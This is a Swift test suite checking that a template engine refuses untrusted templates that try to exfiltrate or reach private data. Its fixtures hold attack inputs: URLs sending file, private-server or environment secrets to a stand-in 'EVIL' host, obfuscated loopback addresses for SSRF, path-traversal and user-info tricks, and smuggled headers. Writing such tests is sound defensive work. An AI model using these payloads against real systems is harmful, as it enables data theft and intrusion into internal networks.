import Foundation
import TemplateData
import TestSupport
import Testing

/// What an untrusted template can learn about a machine and its network, and send away.
struct ExfiltrationTests {
  struct Attack: CustomTestStringConvertible, Sendable {
    var testDescription: String
    var sources: String
    /// The values that the user set.
    var values: [String: String]
    /// The allowed requests to the private server, which the user specified.
    var local: [String]
    /// The source that provides nothing, and a part of the reason.
    var refused: (source: String, reason: String)

    init(
      _ name: String, _ sources: String, _ values: [String: String], local: [String] = [],
      refused source: String = "c", _ reason: String
    ) {
      (testDescription, self.sources, self.values) = (name, sources, values)
      (self.local, refused) = (local, (source, reason))
    }

    init(_ name: String, _ sources: String, _ reason: String) {
      self.init(name, sources, [:], reason)
    }
  }

  private static let named = ["server": "http://LOCAL"]
  private static let localData = #""local": { "url": "{server}/data" }"#
  private static let file = #""file": { "file": "{file}" }"#
  private static let namedFile = ["file": "FOLDER/secret.json"]
  private static let evil = #""evil": { "url": "http://EVIL/e" }"#
  private static let pushed = #""pushed": { "pushed": true }"#

  private static let carried: [Attack] = [
    Attack(
      "a foreign server names the host, a private one the query",
      "{ \(evil), \(localData), \"c\": { \"url\": \"{evil.base}/?x={local.token}\" } }", named,
      local: ["/data"], "combines data from the sources 'evil' and 'local' in one address"),
    Attack(
      "a foreign server chooses the path on a private one",
      "{ \(evil), \(localData), \"c\": { \"url\": \"{evil.home}{local.token}\" } }", named,
      local: ["/data"], "combines data from the sources 'evil' and 'local' in one address"),
    Attack(
      "a file's data to a host that the file names",
      "{ \(file), \"c\": { \"url\": \"{file.base}/?x={file.token}\" } }", namedFile,
      "sends data from 'file' to a server"),
    Attack(
      "an address of a file", "{ \(file), \"c\": { \"url\": \"{file.url}\" } }", namedFile,
      "sends data from 'file' to a server"),
    Attack(
      "a file's data to the template's own server",
      "{ \(file), \"c\": { \"url\": \"http://EVIL/?x={file.token}\" } }", namedFile,
      "sends data from 'file' to a server"),
    Attack(
      "pushed data to a host that it names",
      "{ \(pushed), \"c\": { \"url\": \"{pushed.base}/{pushed.token}\" } }",
      "sends data from 'pushed' to a server"),
    Attack(
      "pushed data beside a foreign host",
      "{ \(evil), \(pushed), \"c\": { \"url\": \"{evil.base}/{pushed.token}\" } }",
      "combines data from the sources 'evil' and 'pushed' in one address"),
    Attack(
      "an address of pushed data", "{ \(pushed), \"c\": { \"url\": \"{pushed.url}\" } }",
      "sends data from 'pushed' to a server"),
    Attack(
      "an address of a private server", "{ \(localData), \"c\": { \"url\": \"{local.url}\" } }",
      named, local: ["/data"], "sends data from 'local' to another server"),
    Attack(
      "a private server's data to a host that it names",
      "{ \(localData), \"c\": { \"url\": \"{local.base}/?x={local.token}\" } }", named,
      local: ["/data"], "appends to the address from 'local'"),
    Attack(
      "a private server's data to the template's own server",
      "{ \(localData), \"c\": { \"url\": \"http://EVIL/?x={local.token}\" } }", named,
      local: ["/data"], "sends data from 'local' to another server"),
    Attack(
      "a private server's data to a parameter's server",
      "{ \(localData), \"c\": { \"url\": \"{key}/?x={local.token}\" } }",
      ["server": "http://LOCAL", "key": "http://EVIL"],
      local: ["/data"], "sends data from 'local' to another server"),
    Attack(
      "a parameter to a host that a server names",
      "{ \(evil), \"c\": { \"url\": \"{evil.url}/?x={key}\" } }", ["key": AttackScenario.secret],
      "appends to the address from 'evil'"),
    Attack(
      "more of a server's data to a host that it names",
      "{ \(evil), \"c\": { \"url\": \"{evil.url}/{evil.token}\" } }",
      "appends to the address from 'evil'"),
    Attack(
      "a picture whose address a private server gives",
      "{ \(localData), \"c\": { \"url\": \"{local.url}\", \"format\": \"picture\" } }", named,
      local: ["/data"], "sends data from 'local' to another server"),
    Attack(
      "a link of a private feed",
      #"{ "news": { "url": "{server}/feed", "format": "feed" }, "c": { "url": "{news.items.0.link}" } }"#,
      named, local: ["/feed"], "sends data from 'news' to another server"),
    Attack(
      "a link of a calendar in a file",
      #"{ "day": { "file": "{file}", "format": "calendar" }, "c": { "url": "{day.events.0.url}" } }"#,
      ["file": "FOLDER/secret.ics"], "sends data from 'day' to a server"),
    Attack(
      "what another server gave after a redirect",
      #"{ "led": { "url": "http://EVIL/to-other" }, "c": { "url": "http://EVIL/?x={led.token}" } }"#,
      "sends data from 'led' to another server"),
    Attack(
      "a private server that leads away with what it is sent",
      "{ \(localData), \"c\": { \"url\": \"{server}/go/{local.token}\" } }", named,
      local: ["/data", "/go/\(AttackScenario.secret)"], "is not an address of the local network"),
    Attack(
      "a chain over the private server",
      "{ \(localData), \"b\": { \"url\": \"{server}/b/{local.token}\" }, "
        + "\"c\": { \"url\": \"http://EVIL/{b.token}\" } }",
      named, local: ["/data", "/b/\(AttackScenario.secret)"],
      "sends data from 'b' to another server"),
    Attack(
      "a chain that begins with a file",
      "{ \(file), \"b\": { \"url\": \"{file.url}\" }, \"c\": { \"url\": \"{b.url}\" } }", namedFile,
      refused: "b", "sends data from 'file' to a server"),
    Attack(
      "the output of a program", #"{ "c": { "command": ["hostname"], "format": "text" } }"#,
      "the template runs 'hostname', which is not allowed"),
    Attack(
      "a secret",
      #"{ "c": { "url": "http://EVIL/", "headers": { "X-Key": { "environment": "KEY" } } } }"#,
      "uses the secret in the environment variable 'KEY', which is not allowed"),
  ]

  private static let disguised: [Attack] = [
    Attack(
      "a secret as a part of the host's name",
      "{ \(localData), \"c\": { \"url\": \"{local.home}.evil.test/\" } }", named, local: ["/data"],
      "'url' must begin with the whole server"),
    Attack(
      "a parameter as a part of the host's name", #"{ "c": { "url": "{key}.evil.test/" } }"#,
      ["key": "http://\(AttackScenario.secret)"], "'url' must begin with the whole server"),
    Attack(
      "a parameter as the user", #"{ "c": { "url": "{key}@EVIL/" } }"#,
      ["key": "http://\(AttackScenario.secret)"], "without user name or password"),
    Attack(
      "another port of the private server", #"{ "c": { "url": "{key}PORT/" } }"#,
      ["key": "http://127.0.0.2:"], "'url' must begin with the whole server"),
    Attack(
      "a port behind a server that was named", #"{ "c": { "url": "{key}:PORT/" } }"#,
      ["key": "http://127.0.0.2"], "'url' must begin with the whole server"),
    Attack(
      "a step up in the path", "{ \(evil), \"c\": { \"url\": \"http://EVIL/a/{evil.dots}/b\" } }",
      "'evil.dots' is '..', which would change the path of the address"),
  ]

  private static let reached: [Attack] = [
    "127.0.0.2:PORT", "127.2:PORT", "2130706434:PORT", "0x7f.2:PORT", "0177.0.0.2:PORT",
    "[::ffff:127.0.0.2]:PORT", "[::ffff:7f00:2]:PORT", "private.test:PORT", "%31%32%37.0.0.2:PORT",
  ].map { host in
    Attack(
      "a private server that is written as \(host)", "{ \"c\": { \"url\": \"http://\(host)/\" } }",
      "is an address of this machine or its network")
  }

  private static let led: [Attack] = [
    Attack(
      "a private server as the default of a parameter", #"{ "c": { "url": "{standard}/" } }"#,
      "is an address of this machine or its network"),
    Attack(
      "a private server behind a harmless choice", #"{ "c": { "url": "{pick}/" } }"#,
      ["pick": "http://LOCAL"], "is an address of this machine or its network"),
    Attack(
      "a private server that a foreign one names",
      "{ \(evil), \"c\": { \"url\": \"{evil.home}\" } }",
      "is an address of this machine or its network"),
    Attack(
      "a private server at the end of a chain",
      "{ \(evil), \"b\": { \"url\": \"{evil.url}\" }, \"c\": { \"url\": \"{b.home}\" } }",
      "is an address of this machine or its network"),
    Attack(
      "a redirect to a private server", #"{ "c": { "url": "http://EVIL/to-local" } }"#,
      "is an address of the local network, to which another server redirects"),
    Attack(
      "a field that a private server may obey",
      #"{ "c": { "url": "{server}/", "headers": { "X-HTTP-Method-Override": "DELETE" } } }"#, named,
      "sends the header field 'X-HTTP-Method-Override' to a server that it does not name"),
    Attack(
      "a password to try",
      #"{ "c": { "url": "{server}/", "headers": { "Authorization": "Basic YTpi" } } }"#,
      named, "sends the header field 'Authorization'"),
    Attack(
      "a cookie", #"{ "c": { "url": "http://EVIL/", "headers": { "Cookie": "a=b" } } }"#,
      "sends the header field 'Cookie'"),
    Attack(
      "a file behind a harmless choice", #"{ "c": { "file": "{pick}" } }"#,
      ["pick": "FOLDER/secret.json"], "it is outside the template's folder"),
    Attack(
      "a file beside the folder that was named", #"{ "c": { "file": "{file}/../secret.json" } }"#,
      ["file": "FOLDER/data"], "it is outside '"),
    Attack(
      "a file that a foreign server names in a folder that was named",
      "{ \(evil), \"c\": { \"file\": \"{file}/{evil.path}\" } }", ["file": "FOLDER/data"],
      "it is outside '"),
    Attack(
      "a file whose name begins like what was named", #"{ "c": { "file": "{file}ret.json" } }"#,
      ["file": "FOLDER/sec"], "the parameter 'file' must be the whole path"),
  ]

  @Test(
    "An attack obtains nothing and sends nothing", arguments: carried + disguised + reached + led)
  func refuses(_ attack: Attack) throws {
    let scenario = try AttackScenario()
    let given = try scenario.run(attack.sources, attack.values)
    let failure = given[attack.refused.source]?.failure ?? "it gave something"
    #expect(failure.contains(attack.refused.reason), "\(failure)")
    #expect(given[attack.refused.source]?.value == nil)
    #expect(scenario.privateServer.requests.map(\.path) == attack.local)
    for request in scenario.attackerServer.requests {
      let all = "\(request)"
      #expect(!all.contains(AttackScenario.secret), "\(all)")
    }
  }

  struct Use: CustomTestStringConvertible, Sendable {
    var testDescription: String
    var sources: String
    var values: [String: String] = [:]
    var local: [String] = []
    var evil: [String] = []
  }

  private static let uses: [Use] = [
    Use(
      testDescription: "a picture whose address a public server gives",
      sources: #"{ "day": { "url": "{server}/day?key={key}" }, "c": { "url": "{day.url}" } }"#,
      values: ["key": "a b"], evil: ["/day?key=a%20b", "/public"]),
    Use(
      testDescription: "a private server that the person named",
      sources: #"{ "c": { "url": "{server}/api?key={key}" } }"#,
      values: ["server": "http://LOCAL", "key": "k"], local: ["/api?key=k"]),
    Use(
      testDescription: "a private server that the person named, which is the default, too",
      sources: #"{ "c": { "url": "{standard}/api" } }"#,
      values: ["standard": "http://LOCAL"], local: ["/api"]),
    Use(
      testDescription: "more of the server that gave a number",
      sources:
        #"{ "list": { "url": "{server}/list" }, "c": { "url": "{server}/item/{list.token}" } }"#,
      values: ["server": "http://LOCAL"], local: ["/list", "/item/\(AttackScenario.secret)"]),
    Use(
      testDescription: "more of a server that is written in the template",
      sources:
        #"{ "list": { "url": "http://EVIL/list" }, "c": { "url": "http://EVIL/?id={list.token}&up={list.dots}" } }"#,
      evil: ["/list", "/?id=evil&up=.."]),
    Use(
      testDescription: "fields for a server that is written in the template",
      sources:
        #"{ "c": { "url": "http://EVIL/", "headers": { "X-Api-Key": "demo", "Accept": "a/b" } } }"#,
      evil: ["/"]),
    Use(
      testDescription: "a language for a server that the person named",
      sources:
        #"{ "c": { "url": "{server}/", "headers": { "Accept-Language": "de", "User-Agent": "x" } } }"#,
      values: ["server": "http://LOCAL"], local: ["/"]),
    Use(
      testDescription: "a file that the person named", sources: #"{ "c": { "file": "{file}" } }"#,
      values: ["file": "FOLDER/secret.json"]),
    Use(
      testDescription: "a file of the folder that the person named",
      sources: #"{ "c": { "file": "{file}/inside.json" } }"#, values: ["file": "FOLDER/data"]),
    Use(
      testDescription: "a file that the person named without its ending",
      sources: #"{ "c": { "file": "{file}.json" } }"#, values: ["file": "FOLDER/secret"]),
  ]

  @Test("Ordinary use of sources needs no trust", arguments: uses)
  func permits(_ use: Use) throws {
    let scenario = try AttackScenario()
    let given = try scenario.run(use.sources, use.values)
    #expect(given.values.allSatisfy { $0.failure == nil && $0.value != nil }, "\(given)")
    #expect(scenario.privateServer.requests.map(\.path) == use.local)
    #expect(scenario.attackerServer.requests.map(\.path) == use.evil)
  }

  @Test(
    "A trusted template may reach and send anything, but data may not reach the local network")
  func trustedTemplateMaySend() throws {
    let scenario = try AttackScenario()
    let given = try scenario.run(
      #"""
      { "evil": { "url": "http://EVIL/e" }, "local": { "url": "http://LOCAL/data" },
        "sent": { "url": "http://EVIL/?x={local.token}" }, "joined": { "url": "{evil.base}/{local.token}" },
        "led": { "url": "{evil.home}" } }
      """#, trusts: true)
    #expect(given["sent"]?.failure == nil && given["joined"]?.failure == nil)
    #expect(scenario.attackerServer.requests.map(\.path) == ["/e", "/?x=S3CRET", "/S3CRET"])
    #expect(
      given["led"]?.failure?.contains("is an address of this machine or its network") == true)
    #expect(scenario.privateServer.requests.map(\.path) == ["/data"])
  }

  @Test("A cached response of a private server is not shown after trust has ended")
  func cachedResponseNeedsTrust() throws {
    let scenario = try AttackScenario()
    let sources = #"{ "local": { "url": "http://LOCAL/data" } }"#
    #expect(try scenario.run(sources, trusts: true)["local"]?.value != nil)
    let later = try #require(try scenario.run(sources)["local"])
    #expect(later.value == nil && later.failure != nil)
    #expect(scenario.privateServer.requests.count == 1)
  }
}
